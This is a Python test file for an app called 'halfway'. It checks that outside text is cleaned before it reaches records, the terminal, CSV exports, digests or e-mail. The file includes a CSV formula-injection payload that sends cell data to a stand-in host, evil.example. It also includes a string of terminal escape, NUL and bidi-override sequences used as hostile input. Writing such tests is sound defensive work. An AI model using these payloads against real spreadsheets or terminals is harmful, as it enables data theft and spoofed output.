"""Text from outside is kept as text: no control character
reaches the records, the terminal, the CSV, the digest or an e-mail, and no CSV cell
is a formula a spreadsheet would run."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import date

from freezegun import freeze_time

from halfway.core import plaintext
from halfway.records import export
from halfway.store.database import Store

from .conftest import Clock
from .engine import make_daemon, run_tick
from .test_digest_mail import last_week_history, seed
from .test_kinds import post_all


def csv_rows(halfway, path) -> list[dict[str, str]]:
    ran = halfway("export", "--format", "csv", "--config", str(path))
    assert ran.code == 0, ran.err
    return list(csv.DictReader(io.StringIO(ran.out)))


# formulas ------------------------------------------------------------------------


def test_a_cell_a_spreadsheet_would_run_is_written_as_text(halfway, config_file) -> None:
    path = config_file().path
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"see")'
    assert halfway("log", "note", formula, "--config", str(path)).code == 0
    [row] = [r for r in csv_rows(halfway, path) if r["record"] == "entry"]
    assert row["text"] == "'" + formula  # OWASP: a leading ' keeps it a text cell


def test_every_start_of_a_formula_is_made_inert_and_nothing_else_changes() -> None:
    for text in ("=1+2", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert export.inert(text) == "'" + text
    for same in ("held", "2026-11-25T19:00:00+01:00", "", "a = b", 3, None, "'quoted"):
        assert export.inert(same) == same
    data = {
        "deliveries": [],
        "replies": [],
        "entries": [{"id": "e_1", "kind": "note", "text": "@cmd", "at": "2026-11-25"}],
    }
    assert "'@cmd" in export.to_csv(data)


# control characters ----------------------------------------------------------------

# What a stranger's text may carry: a clear screen, a window title, a carriage return
# that overwrites, a forged history line, NUL, C1's CSI, a bidi override and isolate.
HOSTILE = (
    "tea\x1b[2J\x1b]0;owned\x07 brought\r\n"
    "2026-11-25 19:00  reply to d_1: agreed\rX\x00\x9b31m \u202eevil\u2066.txt\u2069\tend"
)
PLAIN = "tea brought\n2026-11-25 19:00  reply to d_1: agreed\nX evil.txt\tend"


def test_clean_keeps_words_tabs_and_newlines_and_drops_what_acts() -> None:
    assert plaintext.clean(HOSTILE) == PLAIN
    for kept in ("plain words", "a\tb\nc", "👩\u200d👩\u200d👧 family", "שלום עולם", "مرحبا"):
        assert plaintext.clean(kept) == kept
    assert plaintext.clean("a\u2028b\u2029c\x85d\re") == "a\nb\nc\nd\ne"
    assert plaintext.one_line(HOSTILE) == PLAIN.replace("\n", " ⏎ ")


def is_safe_for_a_terminal(text: str) -> bool:
    return not any(
        (ord(c) < 32 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F or c in "\u202e\u2066"
        for c in text
    )


def test_a_log_entry_is_stored_plain_and_history_shows_it_on_one_line(halfway, config_file) -> None:
    path = str(config_file().path)
    assert halfway("log", "note", HOSTILE, "--config", path).code == 0
    [entry] = json.loads(halfway("export", "--config", path).out)["entries"]
    assert entry["text"] == PLAIN  # the newline a note may have is kept
    ran = halfway("history", "--config", path)
    assert ran.code == 0, ran.err
    assert is_safe_for_a_terminal(ran.out)
    [line] = ran.out.splitlines()  # no forged second line
    assert line.endswith(
        "note: tea brought ⏎ 2026-11-25 19:00  reply to d_1: agreed ⏎ X evil.txt\tend"
    )


def test_asks_boundaries_and_talk_topics_are_stored_plain(halfway, config_file) -> None:
    path = str(config_file().path)
    assert halfway("ask", "add", HOSTILE, "--config", path).code == 0
    assert halfway("boundary", "add", HOSTILE, "--config", path).code == 0
    assert halfway("talk", "add", "in 3 days 18:00", "--topic", HOSTILE, "--config", path).code == 0
    data = json.loads(halfway("export", "--config", path).out)
    assert data["asks"][0]["text"] == PLAIN
    one_line = " ".join(PLAIN.split())
    assert data["boundaries"][0]["text"] == one_line
    assert data["talks"][0]["topic"] == one_line
    for listing in (("ask", "list"), ("boundary", "list"), ("talk", "list"), ("history",)):
        ran = halfway(*listing, "--config", path)
        assert ran.code == 0, ran.err
        assert is_safe_for_a_terminal(ran.out), listing
    [ask_line] = halfway("ask", "list", "--config", path).out.splitlines()
    assert " ⏎ " in ask_line


def test_a_reply_from_the_page_and_from_the_cli_is_stored_plain(
    tmp_path, http_receiver, halfway
) -> None:
    clock = Clock("2026-11-25T19:59:00+01:00")
    body = '[[nudges]]\nid = "evening"\nkind = "gesture_log"\ncron = "0 20 * * *"\n'
    daemon = make_daemon(tmp_path, body, clock, push=http_receiver.json_url())
    clock.set("2026-11-25T20:00:00+01:00")
    run_tick(daemon)
    [delivery] = daemon.store.view().records("deliveries")
    assert asyncio.run(post_all(daemon, [(delivery["id"], {"value": HOSTILE, "note": HOSTILE})]))
    [reply] = daemon.store.view().records("replies")
    assert (reply["value"], reply["note"]) == (PLAIN, PLAIN)

    path = tmp_path / "cli.toml"
    path.write_text(f'timezone = "Europe/Berlin"\ndata_dir = "{daemon.store.data_dir}"\n{body}')
    daemon.store = None  # the CLI writes the file next
    answer = ("again\x1b[2J", "--note", "\x1b]0;x\x07n")
    with freeze_time(clock()):  # the CLI answers on the day it fired, not today
        ran = halfway("reply", delivery["id"], *answer, "--config", str(path))
    assert ran.code == 0, ran.err
    assert is_safe_for_a_terminal(ran.out)
    [reply] = json.loads(halfway("export", "--config", str(path)).out)["replies"]
    assert (reply["value"], reply["note"]) == ("again", "n")
    history = halfway("history", "--config", str(path)).out
    assert is_safe_for_a_terminal(history)
    assert len(history.splitlines()) == 2  # the delivery and its reply, one line each


def test_text_stored_raw_before_this_check_still_prints_safely(halfway, config_file) -> None:
    written = config_file()
    Store(written.data_dir).add(
        "entries", {"kind": "note", "text": HOSTILE, "at": "2026-11-25T19:00:00+00:00"}
    )
    ran = halfway("history", "--config", str(written.path))
    assert ran.code == 0, ran.err
    assert is_safe_for_a_terminal(ran.out)
    assert len(ran.out.splitlines()) == 1


def test_the_digest_shows_words_stored_raw_before_as_plain_text(
    halfway, config_file, tmp_path
) -> None:
    history, week = last_week_history()
    history.log("gesture", f"{week_day(week, 2)} 09:00", HOSTILE)
    history.ask(HOSTILE, f"{week_day(week, 3)} 17:00")
    written = config_file()
    seed(written.data_dir, history)
    path = str(written.path)
    ran = halfway("digest", "--week", week, "--config", path)
    assert ran.code == 0, ran.err
    out = tmp_path / "week.html"
    assert halfway("digest", "--week", week, "--out", str(out), "--config", path).code == 0
    for shown in (ran.out, out.read_text()):  # the text part and the HTML of the mail
        assert is_safe_for_a_terminal(shown)
        assert "tea brought ⏎ 2026-11-25 19:00" in shown


def week_day(week: str, n: int) -> str:
    return str(date.fromisocalendar(int(week[:4]), int(week[6:]), n))


def test_a_reply_by_e_mail_is_stored_plain(tmp_path, http_receiver) -> None:
    from halfway.core import tokens
    from halfway.replies import service
    from halfway.replies.imap import parse_reply

    from .test_imap import mail

    clock = Clock("2026-11-25T19:59:00+01:00")
    body = '[[nudges]]\nid = "evening"\nkind = "gesture_log"\ncron = "0 20 * * *"\n'
    daemon = make_daemon(tmp_path, body, clock, push=http_receiver.json_url())
    clock.set("2026-11-25T20:00:00+01:00")
    run_tick(daemon)
    [delivery] = daemon.store.view().records("deliveries")
    link = f"https://halfway.example/r/{tokens.make(daemon.key, delivery['id'])}"
    raw = mail(
        "tea\x1b]0;owned\x07 brought \u202eevil\n"
        "and\x00 a smile\x1b[2J\n\n"
        "On Mon, 30 Nov 2026 at 20:00, halfway <halfway@example.org> wrote:\n"
        f"> Answer: {link}\n"
    )
    found = parse_reply(raw)
    assert found is not None
    # what the e-mail door (replies.mail.poll) hands over, as it hands it over
    service.accept(daemon.store, delivery, found.value, "email", clock(), note=found.note)
    [reply] = daemon.store.view().records("replies")
    assert reply["value"] == "tea brought evil"
    assert reply["note"] == "and a smile"
